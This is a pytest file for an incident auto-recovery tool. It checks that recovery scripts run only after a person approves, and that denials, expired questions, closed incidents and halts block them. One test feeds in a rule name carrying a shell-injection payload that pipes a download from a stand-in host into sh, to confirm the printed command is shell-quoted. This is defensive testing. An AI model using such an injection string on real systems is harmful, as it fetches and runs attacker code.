"""A rule that asks: a person's first word decides, and without one nothing is run."""

import shlex
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from autorecovery import people
from autorecovery.dry_run import Nobody
from autorecovery.models.controls import Halt, WindowKind
from autorecovery.models.incident import EntryKind, Incident
from autorecovery.models.notice import NoticeKind
from autorecovery.models.reason import Autonomy, Reason
from autorecovery.models.signal import Target, TargetKind
from autorecovery.people import People
from tests.response_world import (
    RELIEVE,
    RESTART,
    START,
    World,
    incident,
    measured_by_alarm,
    rule,
    signal,
)

MINUTE = timedelta(minutes=1)
HOUR = timedelta(hours=1)


def asking(*rungs: Any) -> World:
    return World(measured_by_alarm(rule(*(rungs or (RESTART,)), autonomy=Autonomy.ASK)))


def state_of(world: World) -> str:
    return str(world.present.state)


def say(world: World, word: str, by: str = "ann") -> people.Answer:
    app = People(world.incidents, world.controls, Nobody(), world.clock)
    incident: Incident = world.present
    answer = {
        "approve": lambda: people.decide(incident, by, app, approved=True),
        "deny": lambda: people.decide(incident, by, app, approved=False),
        "ack": lambda: people.acknowledge(incident, by, app),
        "close": lambda: people.close(incident, by, app),
        "silence": lambda: people.silence(incident, by, app, lasting=HOUR),
    }[word]()
    world.wake()
    return answer


def test_without_an_answer_nothing_is_run_and_it_is_handed_over_when_the_question_expires() -> None:
    world = asking()
    assert world.respond(lasting=29 * MINUTE) is None
    assert state_of(world) == "asking"
    assert world.told == [NoticeKind.OPENED, NoticeKind.ASKING]
    assert world.respond(lasting=5 * MINUTE) is None
    assert state_of(world) == "handed over"
    assert "nobody approved in time" in world.board.posted[-1].headline
    assert world.runner.tries == []


def test_an_approval_runs_the_script_even_after_the_first_evidence_went_stale() -> None:
    world = asking()
    world.later(20 * MINUTE, lambda: say(world, "approve"))
    ending = world.respond()
    assert ending is not None
    assert ending.reason is Reason.RECOVERED
    assert world.runner.tries[0].intended_at >= START + 20 * MINUTE
    answered = next(entry for entry in world.story if entry.kind is EntryKind.ANSWERED)
    assert (answered.text, answered.facts["by"]) == ("approved by ann", "ann")


def test_a_denial_hands_over_and_runs_nothing() -> None:
    world = asking()
    world.later(MINUTE, lambda: say(world, "deny"))
    assert world.respond(lasting=HOUR) is None
    assert world.runner.tries == []
    assert any("a person said no" in notice.headline for notice in world.board.posted)


def test_the_second_word_is_told_who_was_first_and_changes_nothing() -> None:
    world = asking()
    assert world.respond(lasting=MINUTE) is None
    assert say(world, "deny", "ann").changed
    second = say(world, "approve", "bob")
    assert not second.changed
    assert "ann denied it already" in second.text
    assert world.respond(lasting=HOUR) is None
    assert world.runner.tries == []


def test_every_rung_is_asked_about_anew() -> None:
    world = asking(RELIEVE, RESTART)
    world.later(MINUTE, lambda: say(world, "approve"))
    assert world.respond(lasting=12 * MINUTE) is None
    assert [attempt.script for attempt in world.runner.tries] == ["relieve_memory"]
    assert world.told.count(NoticeKind.ASKING) == 2


def test_an_approval_opens_no_other_gate() -> None:
    world = asking()
    assert world.respond(lasting=MINUTE) is None
    world.controls.set_halt(Halt("ops", "deploying", START))
    say(world, "approve")
    assert world.respond(lasting=HOUR) is None
    assert world.runner.tries == []


def test_nobody_is_asked_while_another_gate_holds() -> None:
    world = asking()
    world.controls.set_halt(Halt("ops", "deploying", START))
    assert world.respond(lasting=HOUR) is None
    assert NoticeKind.ASKING not in world.told


@pytest.mark.parametrize("word", ["approve", "deny"])
def test_a_word_where_nothing_is_asked_changes_nothing(word: str) -> None:
    world = World(measured_by_alarm(rule(RESTART)))
    answer = say(world, word)
    assert not answer.changed
    assert "asks nothing" in answer.text


def test_an_approval_after_the_question_expired_changes_nothing() -> None:
    world = asking()
    assert world.respond(lasting=40 * MINUTE) is None
    answer = say(world, "approve")
    assert not answer.changed
    assert "expired" in answer.text
    assert world.respond(lasting=HOUR) is None
    assert world.runner.tries == []


def test_a_word_on_a_closed_incident_changes_nothing() -> None:
    world = asking()
    assert world.respond(lasting=MINUTE) is None
    assert say(world, "close").changed
    for word in ("approve", "deny", "ack", "close", "silence"):
        assert not say(world, word).changed
    ending = world.respond()
    assert ending is not None
    assert ending.reason is Reason.CLOSED_BY_PERSON
    assert world.runner.tries == []
    assert world.controls.windows(WindowKind.SILENCE) == []


def test_each_container_of_one_machine_has_a_silence_of_its_own() -> None:
    world = asking()
    app = People(world.incidents, world.controls, Nobody(), world.clock)
    for number in (1, 2):
        name = f"i-0123456789abcdef0/payments-api-{number}"
        seen = signal(id=f"e{number}", target=Target(TargetKind.CONTAINER, name))
        assert people.silence(incident(rule(RESTART), seen), "ann", app, HOUR).changed
    assert len({each.window.targets for each in world.controls.windows(WindowKind.SILENCE)}) == 2


def test_the_command_that_ends_a_silence_is_quoted_for_a_shell() -> None:
    world = asking()
    app = People(world.incidents, world.controls, Nobody(), world.clock)
    hostile = replace(world.present, rule_name="unruled:x'; curl evil|sh; '")
    typed = people.silence(hostile, "ann", app, HOUR).text.partition("to be told again: ")[2]
    [silenced] = world.controls.windows(WindowKind.SILENCE)
    assert shlex.split(typed) == ["autorecovery", "silence", "end", silenced.window.name]


def test_whoever_acknowledged_needs_no_reminding() -> None:
    world = World(incident(None))
    assert world.respond(lasting=MINUTE) is None
    assert say(world, "ack").changed
    assert world.respond(lasting=6 * HOUR) is None
    assert NoticeKind.REMINDER not in world.told


def test_an_answer_to_an_older_question_answers_none() -> None:
    world = asking()
    assert world.respond(lasting=MINUTE) is None
    app = People(world.incidents, world.controls, Nobody(), world.clock)
    older = f"{world.present.id}-r0"
    answer = people.decide(world.present, "ann", app, approved=True, question=older)
    assert not answer.changed
    assert "asks something else by now" in answer.text
    asked = f"{world.present.id}-r1"
    assert people.decide(world.present, "ann", app, approved=True, question=asked).changed
